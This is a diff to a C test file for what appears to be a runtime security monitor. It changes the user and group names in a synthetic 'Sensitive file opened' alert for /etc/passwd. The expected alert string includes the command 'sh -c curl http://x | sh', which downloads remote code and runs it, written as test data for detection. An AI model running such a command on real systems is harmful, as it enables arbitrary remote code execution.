@@ -104,6 +104,8 @@ static struct sf_event file_ev(void)
 	    .container_id = "c0ffee123456",
 	    .container_name = "sf-job-1",
 	    .container_image = "scanfarm/sandbox",
+	    .user_name = "node",
+	    .user_id = 1000,
 	};
 	return ev;
 }
@@ -706,7 +708,7 @@ static void test_output(void)
 	const char *want =
 	    "Sensitive file opened (file=/etc/passwd parent=npm gp=bash cmd=sh -c curl http://x | "
 	    "sh "
-	    "sip=<NA> flags=O_RDONLY|O_CLOEXEC name=sh pad=[sh   ] cut=[/e] user=scanner "
+	    "sip=<NA> flags=O_RDONLY|O_CLOEXEC name=sh pad=[sh   ] cut=[/e] user=node "
 	    "ctr=c0ffee123456 res=SUCCESS ancestors=npm bash. again=/etc/passwd)";
 	if (strcmp(a.output, want) != 0)
 		fprintf(stderr, "  output:\n  got  %s\n  want %s\n", a.output, want);
@@ -726,7 +728,7 @@ static void test_output(void)
 	    {"fd.sip", "<NA>"},
 	    {"evt.arg.flags", "O_RDONLY|O_CLOEXEC"},
 	    {"proc.name", "sh"},
-	    {"user.name", "scanner"},
+	    {"user.name", "node"},
 	    {"container.id", "c0ffee123456"},
 	    {"evt.res", "SUCCESS"},
 	    {"proc.aname", "npm bash"},
@@ -822,10 +824,10 @@ static void test_render(void)
 	    {"proc.is_exe_upper_layer", "false"},
 	    {"proc.is_exe_writable", "false"},
 	    {"user.uid", "1000"},
-	    {"user.name", "scanner"},
+	    {"user.name", "node"},
 	    {"user.loginuid", "-1"},
 	    {"group.gid", "1000"},
-	    {"group.name", "scanner"},
+	    {"group.name", "node"},
 	    {"fd.name", "/etc/passwd"},
 	    {"fd.directory", "/etc"},
 	    {"fd.filename", "passwd"},
